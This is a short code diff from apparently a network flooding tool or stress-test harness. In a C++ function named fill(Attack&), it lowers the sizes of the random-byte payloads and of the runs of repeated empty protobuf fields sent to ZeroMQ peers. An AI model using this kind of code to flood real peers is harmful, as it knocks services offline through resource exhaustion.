@@ -354,7 +354,7 @@ void fill(Attack& a) {
   std::getline(std::ifstream("/proc/sys/kernel/random/boot_id") >> std::ws, a.boot_id);
   std::string random(16'000'000, '\0'), empty_parts;
   for (char& c : random) c = static_cast<char>(a.random());
-  for (int i = 0; i < 1'000'000; ++i) empty_parts.append("\x5a\x00", 2);  // field 11, of no bytes
+  for (int i = 0; i < 750'000; ++i) empty_parts.append("\x5a\x00", 2);  // field 11, of no bytes
   zmq::context_t context(2);
   std::vector<std::optional<zmq::socket_t>> peers(a.connections);
   std::uint64_t next_source = 0xa77ac << 20;
@@ -377,7 +377,7 @@ void fill(Attack& a) {
         case 1:
         case 2:
         case 3:
-          sent = peer->send(zmq::buffer(random.data(), 2'000'000), zmq::send_flags::dontwait).has_value();
+          sent = peer->send(zmq::buffer(random.data(), 1'500'000), zmq::send_flags::dontwait).has_value();
           break;
         case 4:
           sent = peer->send(zmq::buffer(empty_parts), zmq::send_flags::dontwait).has_value();
